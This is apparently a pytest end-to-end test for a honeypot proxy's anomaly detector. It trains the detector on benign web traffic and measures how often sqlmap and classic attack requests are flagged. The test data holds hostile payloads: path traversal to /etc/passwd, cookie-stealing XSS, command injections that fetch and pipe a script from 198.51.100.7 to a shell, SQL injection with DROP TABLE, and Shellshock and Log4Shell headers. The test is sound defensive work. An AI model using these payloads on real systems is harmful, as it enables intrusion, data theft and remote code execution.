"""The anomaly detector end to end: learn the web application's normal requests from
transcripts of benign traffic, configure ``anomaly_model`` on the service, then measure
through a running honeyswitch (dry run, so every request is judged on its own) how many
of sqlmap's requests and of classic attack requests it flags, and how many held-out
benign requests it flags.  The rates are printed (run with -s); the bounds are loose on
purpose.  Last, without dry run, one injection request is switched by the model alone
before it reaches main.

Training traffic: real clients (aiohttp, http.client, curl) from an address put on the
blacklist for the purpose, so its sessions go straight to the honeypot and honeyswitch
keeps their transcripts, which :func:`collect` reads as ``honeyswitch train
--from-transcripts`` does.
"""
from __future__ import annotations

import asyncio
import http.client
import random
from pathlib import Path
from typing import Any
from urllib.parse import quote

import aiohttp
import pytest
from e2e_web import service

from honeyswitch.detect.anomaly import ModelConfig, Shape, collect, save_model, train_model
from honeyswitch.testing import require
from honeyswitch.testing.harness import address, make_config, running, session_of
from honeyswitch.testing.httpclient import HttpConnection
from honeyswitch.testing.procs import free_port

pytestmark = [pytest.mark.slow]

TRAINER, BENIGN, ATTACKER = "127.0.0.50", "127.0.0.60", "127.0.0.1"
FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0"
UAS = [FIREFOX,
       "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
       "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15",
       "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
       "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.6045.163 Mobile Safari/537.36",
       "curl/7.88.1", "python-requests/2.31.0", "Wget/1.21.3"]
WORDS = ("oak table steel hammer linen shirt glass vase copper kettle wool scarf cedar chair brass lamp "
         "cotton towel maple shelf clay pot silk tie red blue green gift sale new kitchen garden").split()
UNICODE = ["caf\u00e9", "cr\u00e8me", "Z\u00fcrich", "stra\u00dfe", "\u65e5\u672c"]
ACCEPT = ["*/*", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", "application/json"]
LANGS = ["en-US,en;q=0.9", "de-DE,de;q=0.9,en;q=0.7", "fr-FR,fr;q=0.9", "ja,en-US;q=0.9"]
CLASSIC = {
    "traversal": ["/item?id=../../../../etc/passwd", "/robots.txt/..%2f..%2f..%2fetc%2fshadow",
                  "/search?q=....//....//....//etc/passwd", "/%2e%2e/%2e%2e/%2e%2e/etc/hosts"],
    "xss": ["/search?q=<script>alert(document.cookie)</script>", "/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
            "/item?id=1\"><svg/onload=alert(1)>", "/search?q=javascript:alert(String.fromCharCode(88,83,83))"],
    "cmd injection": ["/search?q=;cat%20/etc/passwd", "/search?q=|id", "/item?id=1;wget%20http://198.51.100.7/x.sh",
                      "/search?q=$(curl%20-s%20http://198.51.100.7/p|sh)"],
    "sqli": ["/item?id=1'%20OR%20'1'='1", "/item?id=-1%20UNION%20SELECT%201,sql,3%20FROM%20sqlite_master--",
             "/item?id=1%20AND%20(SELECT%20COUNT(*)%20FROM%20users)>0", "/search?q=x'%3BDROP%20TABLE%20items--"],
}
CLASSIC_HEADERS = {
    "shellshock": [{"User-Agent": "() { :; }; /bin/bash -c 'cat /etc/passwd'"},
                   {"Referer": "() { ignored; }; echo; /usr/bin/id"}],
    "log4shell": [{"User-Agent": "${jndi:ldap://198.51.100.7:1389/a}"},
                  {"X-Api-Version": "${${lower:j}ndi:${lower:l}dap://198.51.100.7/x}"}],
    "overflow": [{"Cookie": "session=" + "A" * 6000}, {"X-Long": "%n%s" * 800}],
}


def _plan(rng: random.Random, n: int) -> list[tuple[str, str, bytes, dict[str, str]]]:
    """``n`` varied requests of a normal visitor mix: (method, target, body, headers)."""
    out = []
    for _ in range(n):
        kind = rng.random()
        if kind < 0.3:
            target = f"/item?id={rng.randint(1, 12)}" + (f"&ref={rng.choice(WORDS)}" if rng.random() < 0.2 else "")
        elif kind < 0.6:
            words = rng.sample(WORDS, rng.randint(1, 3)) + ([rng.choice(UNICODE)] if rng.random() < 0.15 else [])
            target = "/search?q=" + quote(" ".join(words))
            target += f"&page={rng.randint(1, 5)}&sort={rng.choice(['price', 'name'])}" if rng.random() < 0.3 else ""
        elif kind < 0.85:
            target = rng.choice(["/", "/api/items", "/robots.txt", "/login"])
        else:
            body = f"user={rng.choice(['alice', 'bob', 'carol', 'dave'])}&password={rng.choice(WORDS)}{rng.randint(1, 999)}"
            out.append(("POST", "/login", body.encode(), {**_headers(rng),
                                                           "Content-Type": "application/x-www-form-urlencoded"}))
            continue
        out.append(("GET", target, b"", _headers(rng)))
    return out


def _headers(rng: random.Random) -> dict[str, str]:
    h = {"User-Agent": rng.choice(UAS), "Accept": rng.choice(ACCEPT)}
    if rng.random() < 0.5:
        h["Accept-Language"] = rng.choice(LANGS)
    if rng.random() < 0.3:
        h["Cookie"] = f"session={rng.getrandbits(64):016x}; theme={rng.choice(['dark', 'light'])}"
    if rng.random() < 0.3:
        h["Referer"] = "http://127.0.0.1/" + rng.choice(["", "search?q=lamp", "item?id=3"])
    if rng.random() < 0.3:
        h["Cache-Control"] = "no-cache"
    return h


async def _aiohttp(port: int, source: str, plan: list, sessions: int) -> int:
    done = 0
    for part in (plan[i::sessions] for i in range(sessions)):
        async with aiohttp.ClientSession(connector=aiohttp.TCPConnector(local_addr=(source, 0), limit=1)) as s:
            for method, target, body, headers in part:
                async with s.request(method, f"http://127.0.0.1:{port}{target}", data=body or None,
                                     headers=headers, allow_redirects=False) as r:
                    await r.read()
                    done += 1
    return done


def _stdlib(port: int, source: str, plan: list, sessions: int) -> int:
    done = 0
    for part in (plan[i::sessions] for i in range(sessions)):
        conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10, source_address=(source, 0))
        try:
            for method, target, body, headers in part:
                conn.request(method, target, body=body or None, headers=headers)
                conn.getresponse().read()
                done += 1
        finally:
            conn.close()
    return done


async def _curl(port: int, source: str, plan: list, tmp_path: Path) -> int:
    curl = require.program("curl")
    gets = [(t, h) for m, t, _, h in plan if m == "GET"]
    for target, headers in gets:  # one curl per request: its own headers each time
        argv = [curl, "-s", "-o", "/dev/null", "--interface", source, f"http://127.0.0.1:{port}{target}"]
        for k, v in headers.items():
            argv += ["-H", f"{k}: {v}"]
        proc = await asyncio.create_subprocess_exec(*argv, cwd=tmp_path)
        assert await asyncio.wait_for(proc.wait(), 10) == 0
    return len(gets)


async def _traffic(port: int, source: str, seed: int, n: int, tmp_path: Path) -> int:
    """``n`` benign requests from ``source``: aiohttp, http.client and curl, in parallel."""
    rng = random.Random(seed)
    plan = _plan(rng, n)
    a, b, c = plan[: n * 5 // 10], plan[n * 5 // 10: n * 9 // 10], plan[n * 9 // 10:]
    counts = await asyncio.gather(_aiohttp(port, source, a, 8), asyncio.to_thread(_stdlib, port, source, b, 8),
                                  _curl(port, source, c, tmp_path))
    return sum(counts)


async def _train(tmp_path: Path, webpair: Any, port: int) -> tuple[Path, dict[str, Any]]:
    cfg = make_config(tmp_path / "learn", [service(webpair.main, webpair.honeypot, listen=f"127.0.0.1:{port}")])
    async with running(cfg) as (app, events):
        app.blacklist.add(TRAINER, reason="learning: keep transcripts of benign traffic", by="test")
        sent = await _traffic(address(app)[1], TRAINER, seed=1, n=500, tmp_path=tmp_path)
        await asyncio.sleep(0.2)
    data = collect("transcripts", tmp_path / "learn" / "transcripts")
    model = train_model(data.requests, ModelConfig(shape=Shape(percent_decode=True)), "web")
    path = tmp_path / "web.npz"
    save_model(model, path)
    return path, {"sent": sent, "samples": len(data.requests), "threshold": model.threshold,
                  "skipped": data.skipped}


def _config(tmp_path: Path, webpair: Any, model: Path, port: int, dry_run: bool):
    return make_config(tmp_path / ("dry" if dry_run else "live"),
                       [service(webpair.main, webpair.honeypot, protocol="http", anomaly_model=str(model),
                                dry_run=dry_run, listen=f"127.0.0.1:{port}")],
                       scoring={"blacklist_threshold": 1e9}, blacklist={"on_switch": not dry_run})


async def _one(app: Any, port: int, target: str, headers: dict[str, str]) -> str:
    conn = await HttpConnection.open("127.0.0.1", port, source=ATTACKER)
    try:
        sid = await session_of(app, conn.writer)
        await conn.request("GET", target, {"User-Agent": FIREFOX, "Accept": "*/*", **headers})
        return sid
    finally:
        await conn.close()


async def _sqlmap(port: int, tmp_path: Path) -> str:
    sqlmap = require.program("sqlmap")
    (tmp_path / "home").mkdir(exist_ok=True)
    # a common browser User-Agent, as in training: what is judged is sqlmap's payloads
    argv = [sqlmap, "-u", f"http://{ATTACKER}:{port}/item?id=1", "--batch", "--level", "1", "--risk", "1",
            "--technique=BU", "--dbms=SQLite", "-p", "id", "--disable-coloring", "--flush-session",
            "--output-dir", str(tmp_path / "sqlmap"), "--timeout", "10", "--retries", "1", "--skip-waf",
            "--user-agent", FIREFOX, "-T", "users", "--dump"]
    proc = await asyncio.create_subprocess_exec(*argv, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT,
                                                cwd=tmp_path, env={"HOME": str(tmp_path / "home"), "PATH": "/usr/bin:/bin"})
    out, _ = await asyncio.wait_for(proc.communicate(), 120)
    return out.decode("utf-8", "replace")


def _rate(hit: int, total: int) -> str:
    return f"{hit}/{total} = {hit / total:.2f}" if total else "0/0"


async def test_anomaly_model_flags_attacks_not_benign_traffic(tmp_path, webpair):
    port = free_port()  # one service port throughout: clients' Host headers name it
    model, trained = await _train(tmp_path, webpair, port)
    assert trained["samples"] >= 450
    async with running(_config(tmp_path, webpair, model, port, dry_run=True)) as (app, events):
        benign_requests = await _traffic(port, BENIGN, seed=2, n=300, tmp_path=tmp_path)
        out = await _sqlmap(port, tmp_path)
        classic = {}
        for family, targets in CLASSIC.items():
            classic[family] = [await _one(app, port, t, {}) for t in targets]
        for family, headers in CLASSIC_HEADERS.items():
            classic[family] = [await _one(app, port, "/", h) for h in headers]
        await asyncio.sleep(0.2)
        alerts = [e for e in events.of_type("alert") if e["detector"] == "anomaly"]
        would = {e["session_id"] for e in events.of_type("would_switch")}
        benign_sessions = {e["session_id"] for e in events.of_type("session_start", src_ip=BENIGN)}
    assert "back-end DBMS: SQLite" in out, out[-2000:]
    flagged = {e["session_id"] for e in alerts}
    benign_alerts = [e for e in alerts if e["src_ip"] == BENIGN]
    # sqlmap: one connection per request; main's access log names each one's target
    starts = {f"{e['src_ip']}:{e['src_port']}": e["session_id"]
              for e in events.of_type("session_start", src_ip=ATTACKER)}
    classic_ids = {s for v in classic.values() for s in v}
    sqlmap_reqs = [(e["target"], starts[e["client"]]) for e in webpair.main.entries()
                   if e["client"] in starts and starts[e["client"]] not in classic_ids]
    payload = [sid for target, sid in sqlmap_reqs if target != "/item?id=1"]
    plain = [sid for target, sid in sqlmap_reqs if target == "/item?id=1"]
    fams = {f: sum(s in flagged for s in ids) for f, ids in classic.items()}
    hits = sum(s in flagged for s in payload)
    classic_total = sum(len(v) for v in classic.values())
    print(f"\nanomaly model: trained on {trained['samples']} requests from transcripts "
          f"(threshold {trained['threshold']:.2f}, skipped {trained['skipped']})\n"
          f"  false positives, held-out benign requests: {_rate(len(benign_alerts), benign_requests)}\n"
          f"  sqlmap injection requests detected: {_rate(hits, len(payload))}; "
          f"sqlmap's plain /item?id=1 requests flagged: {_rate(sum(s in flagged for s in plain), len(plain))}\n"
          f"  classic attacks detected: {_rate(sum(fams.values()), classic_total)}  "
          + "  ".join(f"{f}={n}/{len(classic[f])}" for f, n in fams.items()) + "\n"
          f"  would switch (score >= 100 alone, anomaly_score 60): benign sessions "
          f"{_rate(len(would & benign_sessions), len(benign_sessions))}, sqlmap injection requests "
          f"{_rate(sum(s in would for s in payload), len(payload))}, classic attacks "
          f"{_rate(len(would & classic_ids), classic_total)}")
    assert len(payload) >= 10
    assert len(benign_alerts) / benign_requests <= 0.05
    assert hits / len(payload) >= 0.5
    assert sum(fams.values()) / classic_total >= 0.6
    assert not events.of_type("switch")  # dry run
    assert len(would & benign_sessions) <= 0.05 * len(benign_sessions)

    # Without dry run, an injection request is switched by the model before main sees it
    async with running(_config(tmp_path, webpair, model, port, dry_run=False)) as (app, events):
        target = "/item?id=1%20UNION%20ALL%20SELECT%20NULL,NULL,name||password%20FROM%20users--%20x"
        sid = await _one(app, port, target, {})
        switch = await events.wait_for("switch", timeout=5, session_id=sid)
    assert switch["by"] == "detector:anomaly"
    client = f"{switch['src_ip']}:{switch['src_port']}"
    assert not [e for e in webpair.main.entries() if e["client"] == client]
    assert [e["target"] for e in webpair.honeypot.entries() if e["client"] == client] == [target]
